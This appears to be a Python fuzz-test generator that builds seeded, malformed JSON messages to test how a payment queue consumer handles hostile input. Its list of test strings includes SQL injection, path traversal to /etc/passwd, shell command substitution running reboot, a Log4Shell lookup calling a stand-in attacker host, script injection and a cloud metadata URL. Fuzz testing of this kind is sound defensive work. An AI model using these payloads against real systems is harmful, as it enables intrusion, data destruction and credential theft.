"""Hostile messages, generated from a seed: the same seed gives the same messages again.

A variant is a valid message with one to three things done to it. Whether it can still be read is
not said here, except where it is certain: the tests hold every variant against what must be true
of any message, readable or not.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any

# Of today, so that a tracked variant is sent; always equally long, so that a seed gives the same
# variants on another day.
CREATED = datetime.now(UTC).isoformat(timespec="seconds")

type Fields = dict[str, Any]

# Everything that JSON can hold, and everything that a string can do to whoever prints it, puts it
# into a header, a query, a path or a shell, or compares it.
TEXTS = [
    "",
    " ",
    "\t\r\n",
    "\x00",
    "a\x00b",
    "\x1b[2J\x1b[31m",
    "\x7f",
    "\x85",
    "\u200b",
    "\u202egnp.exe",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\ud800",
    "\udc00\ud800",
    "😀" * 64,
    "é" * 65,
    "x" * 64,
    "x" * 65,
    "x" * 100_000,
    "P1\r\nClient-Id: somebody-else",
    "' OR 1=1 --",
    '"; DROP TABLE payments; --',
    "../../../../etc/passwd",
    "$(reboot)",
    "`reboot`",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "%s%s%n",
    "%00",
    "null",
    "undefined",
    "NaN",
    "-1",
    "1e309",
    "true",
    "__proto__",
    "arn:aws:iam::123456789012:root",
    "http://169.254.169.254/latest/meta-data/",
    "\uff30\uff21\uff39",
    "\u0661\u0662\u0663",
]
VALUES: list[Any] = [
    *TEXTS,
    None,
    True,
    False,
    0,
    -1,
    1,
    17,
    2**63,
    -(2**63),
    10**30,
    0.1,
    1e308,
    float("inf"),
    float("nan"),
    [],
    [[]],
    ["x"],
    {},
    {"a": {"b": {}}},
    [None] * 1000,
]
TIMES = [
    "2026-11-22T23:41:07",
    "2026-11-22T23:41:07z",
    "2026-11-22t23:41:07+08:00",
    "2026-11-22 23:41:07+08:00",
    "2026-11-22T23:41:07+0800",
    "2026-11-22T23:41:07+08",
    "2026-11-22T23:41:07+99:99",
    "2026-11-22T23:41:07-23:59",
    "2026-11-22T23:41:60+08:00",
    "2026-11-22T24:00:00+08:00",
    "2026-02-30T00:00:00Z",
    "2026-W47-7T23:41:07Z",
    "20261122T234107Z",
    "2026-11-22",
    "23:41:07Z",
    "0000-01-01T00:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-12:00",
    "99999-01-01T00:00:00Z",
    "-2026-11-22T23:41:07Z",
    "1763826067",
    "1763826067000",
    "2026-11-22T23:41:07.123456789123456789Z",
    "2026-11-22T23:41:07,5Z",
    "2026-11-22T23:41:07+08:00[Asia/Shanghai]",
    "\u0662\u0660\u0662\u0666-11-22T23:41:07Z",
    "Sun, 22 Nov 2026 23:41:07 +0800",
    "now",
]
KEYS = ["paymentRequestId", "paymentId", "paymentCreateTime", "tracking"]
TRACKING = {"taskToken": "token", "attempts": 3, "firstAttemptAt": CREATED}


def variants(seed: int, number: int) -> Iterator[str]:
    """Yield that many message bodies, no two alike."""
    dice, seen = random.Random(seed), set[str]()
    while len(seen) < number:
        body = _variant(dice, len(seen))
        if body not in seen:
            seen.add(body)
            yield body


def _variant(dice: random.Random, index: int) -> str:
    fields = _valid(dice, index)
    for _ in range(dice.choice([1, 1, 1, 2, 3])):
        fields = dice.choice(_ON_FIELDS)(dice, fields)
    body = json.dumps(fields, ensure_ascii=dice.random() < 0.5)
    if dice.random() < 0.3:
        body = dice.choice(_ON_TEXT)(dice, body)
    # SQS takes no lone surrogate; escaped inside JSON, one gets through.
    return body.encode(errors="backslashreplace").decode()


def _valid(dice: random.Random, index: int) -> Fields:
    fields: Fields = {"paymentRequestId": f"SUCCEEDS-abuse-{index}", "paymentCreateTime": CREATED}
    if dice.random() < 0.5:
        fields["paymentId"] = f"2099{index:012}"
    if dice.random() < 0.3:
        fields["tracking"] = dict(TRACKING)
    return fields


def _replace(dice: random.Random, fields: Fields) -> Fields:
    return fields | {dice.choice(KEYS): dice.choice(VALUES)}


def _drop(dice: random.Random, fields: Fields) -> Fields:
    dropped = dice.choice(KEYS)
    return {name: value for name, value in fields.items() if name != dropped}


def _mistime(dice: random.Random, fields: Fields) -> Fields:
    return fields | {"paymentCreateTime": dice.choice(TIMES)}


def _mistrack(dice: random.Random, fields: Fields) -> Fields:
    name = dice.choice([*TRACKING, "unknown"])
    value = dice.choice(TIMES if name == "firstAttemptAt" and dice.random() < 0.5 else VALUES)
    tracking = TRACKING | {name: value}
    if dice.random() < 0.2:
        del tracking[name]
    return fields | {"tracking": tracking}


def _rename(dice: random.Random, fields: Fields) -> Fields:
    old = dice.choice(KEYS)
    new = dice.choice([old.lower(), old.upper(), f" {old}", f"{old}\u0000", "__proto__", ""])
    return {new if name == old else name: value for name, value in fields.items()}


def _add(dice: random.Random, fields: Fields) -> Fields:
    return fields | {dice.choice(TEXTS)[:200]: dice.choice(VALUES) for _ in range(5)}


def _wrap(dice: random.Random, fields: Fields) -> Fields:
    name = dice.choice(["detail", "Message", "body", "paymentRequestId", "tracking"])
    return {name: fields} if dice.random() < 0.5 else fields | {name: fields}


def _truncate(dice: random.Random, text: str) -> str:
    return text[: dice.randrange(len(text))]


def _flip(dice: random.Random, text: str) -> str:
    at = dice.randrange(len(text))
    return text[:at] + dice.choice('"\\{}[]:,0x\t \u2028\ufffd') + text[at + 1 :]


def _insert(dice: random.Random, text: str) -> str:
    at = dice.randrange(len(text) + 1)
    return text[:at] + dice.choice(TEXTS)[:500] + text[at:]


def _repeat(dice: random.Random, text: str) -> str:
    first = dice.randrange(len(text))
    part = text[first : first + dice.randint(1, 40)]
    return text[:first] + part * dice.randint(2, 50) + text[first + len(part) :]


def _twice(dice: random.Random, text: str) -> str:
    again = json.dumps({dice.choice(KEYS): dice.choice(TEXTS)[:80]})
    return f"{text[:-1]},{again[1:]}" if dice.random() < 0.7 else text + text


def _encode(dice: random.Random, text: str) -> str:
    return dice.choice([json.dumps(text), f"[{text}]", f"\ufeff{text}", f"{text}\n//"])


def _nest(dice: random.Random, text: str) -> str:
    depth = dice.choice([10, 1_000, 60_000])
    return "[" * depth + text + "]" * dice.choice([0, depth])


_ON_FIELDS: list[Callable[[random.Random, Fields], Fields]] = [
    _replace,
    _replace,
    _drop,
    _mistime,
    _mistrack,
    _rename,
    _add,
    _wrap,
]
_ON_TEXT: list[Callable[[random.Random, str], str]] = [
    _truncate,
    _flip,
    _flip,
    _insert,
    _repeat,
    _twice,
    _encode,
    _nest,
]
